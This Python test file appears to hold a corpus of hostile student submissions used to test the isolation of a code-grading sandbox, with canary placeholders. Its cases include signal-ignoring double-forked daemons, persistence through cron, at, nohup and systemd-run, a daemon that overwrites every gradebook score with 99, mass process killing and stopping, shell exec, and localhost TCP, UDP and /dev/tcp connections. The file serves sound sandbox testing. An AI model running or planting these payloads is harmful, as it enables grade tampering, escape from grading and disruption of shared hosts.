"""Attacks with processes, signals and sockets."""

from tests.corpora.hostile.make import attack

FAMILY = "processes and sockets"

# A process that calls itself by the canary's name, so that it can be told apart.
LATER = """
import ctypes, os, signal, time

def daemon(what, seconds=3):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"lstm_canary", 0, 0, 0)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    time.sleep(seconds)
    what()
    time.sleep(30)
    os._exit(0)
"""


def _attack(name, code="", **more):
    return attack(FAMILY, name, code, **more)


CASES = [
    _attack("a daemon that writes later", LATER + "daemon(lambda: open('@CANARY@/later', 'w').close())\n"),
    _attack(
        "a daemon from an answer",
        LATER,
        count_parameters="""
        def count_parameters(D, H, biases=1):
            daemon(lambda: open("@CANARY@/later", "w").close())
            return 0
        """,
    ),
    _attack(
        "a daemon that changes grades later",
        LATER
        + """
def change():
    import sqlite3
    base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True)
    base.execute("update grade set manual_score = 99")
    base.commit()

daemon(change, 1)
""",
    ),
    _attack(
        "a daemon that closes everything it has",
        LATER
        + """
if os.fork() == 0:
    os.closerange(0, 4096)
    daemon(lambda: open("@CANARY@/later", "w").close())
    os._exit(0)
""",
    ),
    _attack(
        "a program started and left",
        """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(40)", "@CANARY@"], start_new_session=True)
        """,
    ),
    _attack(
        "nohup, at and cron",
        """
        import subprocess
        for command in ("nohup sh -c 'sleep 2; touch @CANARY@/nohup' &", "echo 'touch @CANARY@/at' | at now",
                        "echo '* * * * * touch @CANARY@/cron' | crontab -", "systemd-run --user touch @CANARY@/unit"):
            try:
                subprocess.run(command, shell=True, timeout=5, capture_output=True)
            except Exception as error:
                print(type(error).__name__)
        """,
    ),
    _attack(
        "a thread that is no daemon",
        """
        import threading, time

        def forever():
            while True:
                try:
                    time.sleep(0.01)
                    open("@CANARY@/thread", "w").close()
                except BaseException:
                    pass

        threading.Thread(target=forever).start()
        """,
    ),
    _attack(
        "a process pool left open",
        """
        import concurrent.futures, time
        pool = concurrent.futures.ProcessPoolExecutor(2)
        futures = [pool.submit(time.sleep, 60) for _ in range(4)]
        """,
    ),
    _attack(
        "the parent killed",
        """
        import os, signal
        if os.getppid() > 1:
            os.kill(os.getppid(), signal.SIGKILL)
        """,
    ),
    _attack(
        "everybody killed",
        """
        import os, signal
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError as error:
            print(error)
        """,
    ),
    _attack(
        "every process stopped",
        """
        import os, signal
        me = os.getpid()
        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
            if pid not in (1, me):
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
        """,
    ),
    _attack(
        "the group and the session killed",
        """
        import os, signal
        for number in (signal.SIGHUP, signal.SIGTERM):
            try:
                os.killpg(os.getpgid(os.getppid()), number)
            except OSError:
                pass
        """,
    ),
    _attack("itself stopped", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"),
    _attack(
        "itself stopped in an answer",
        count_parameters="""
        import os, signal

        def count_parameters(D, H, biases=1):
            os.kill(os.getpid(), signal.SIGSTOP)
            return 0
        """,
    ),
    _attack("os._exit in a cell", "import os\nos._exit(0)\n"),
    _attack(
        "os._exit in an answer",
        count_parameters="""
        import os

        def count_parameters(D, H, biases=1):
            os._exit(0)
        """,
    ),
    _attack(
        "sys.exit, quit and SystemExit",
        "import sys\nsys.exit(0)\n",
        count_parameters="""
        def count_parameters(D, H, biases=1):
            raise SystemExit(6)
        """,
        sigmoid="def sigmoid(a):\n    quit()\n\n\ndef d_sigmoid(y):\n    raise KeyboardInterrupt\n",
    ),
    _attack(
        "aborted",
        count_parameters="""
        import os

        def count_parameters(D, H, biases=1):
            os.abort()
        """,
    ),
    _attack(
        "a segmentation fault",
        count_parameters="""
        import ctypes

        def count_parameters(D, H, biases=1):
            return ctypes.string_at(0)
        """,
    ),
    _attack(
        "a segmentation fault that is caught",
        """
        import faulthandler, signal, sys
        faulthandler.enable(file=sys.__stderr__)
        signal.signal(signal.SIGSEGV, signal.SIG_IGN)
        signal.signal(signal.SIGABRT, lambda *args: None)
        import ctypes
        ctypes.string_at(0)
        """,
    ),
    _attack(
        "another program in its place",
        count_parameters="""
        import os

        def count_parameters(D, H, biases=1):
            os.execv("/bin/sh", ["sh", "-c", "while true; do sleep 1; done"])
        """,
    ),
    _attack(
        "another program that speaks",
        count_parameters="""
        import os

        def count_parameters(D, H, biases=1):
            os.execv("/bin/sh", ["sh", "-c", "for fd in 3 4 5 6 7 8 9; do printf 'AAAABBBB' >&$fd; done 2>/dev/null"])
        """,
    ),
    _attack(
        "a TCP connection",
        """
        import socket
        for host in ("127.0.0.1", "localhost", "::1"):
            try:
                with socket.create_connection((host, @PORT@), timeout=2) as line:
                    line.sendall(b"@NAME@\\n")
            except OSError as error:
                print(error)
        """,
    ),
    _attack(
        "a TCP connection from an answer",
        count_parameters="""
        import urllib.request

        def count_parameters(D, H, biases=1):
            urllib.request.urlopen("http://127.0.0.1:@PORT@/@NAME@", timeout=2)
            return 0
        """,
    ),
    _attack(
        "a UDP packet",
        """
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"@NAME@", ("127.0.0.1", @PORT@))
        """,
    ),
    _attack(
        "an abstract socket",
        """
        import socket
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
            line.connect("\\0lstm-canary-@PORT@")
            line.sendall(b"@NAME@\\n")
        """,
    ),
    _attack(
        "a socket file",
        """
        import socket
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
            line.bind("@CANARY@/socket")
            line.listen()
        """,
    ),
    _attack(
        "curl and bash",
        """
        import subprocess
        for command in ("curl -s -m 2 http://127.0.0.1:@PORT@/@NAME@", "echo @NAME@ > /dev/tcp/127.0.0.1/@PORT@"):
            subprocess.run(["bash", "-c", command], timeout=5, capture_output=True)
        """,
    ),
    _attack(
        "raw and netlink sockets",
        """
        import socket
        for family in (socket.AF_PACKET, socket.AF_INET, 16):
            try:
                socket.socket(family, socket.SOCK_RAW).close()
                print("opened", family)
            except OSError as error:
                print(error)
        """,
    ),
    _attack(
        "a server that waits for others",
        LATER
        + """
import socket
server = socket.socket()
try:
    server.bind(("127.0.0.1", 0))
    server.listen()
except OSError as error:
    print(error)
daemon(lambda: server.accept(), 0)
""",
    ),
    _attack(
        "shared memory and queues for the next student",
        """
        import ctypes, multiprocessing.shared_memory as shared
        try:
            kept = shared.SharedMemory("lstm_canary", create=True, size=1000)
            kept.buf[:5] = b"hello"
        except OSError as error:
            print(error)
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.shmget(0x15F7, 4096, 0o1666), libc.msgget(0x15F7, 0o1666))
        """,
    ),
]
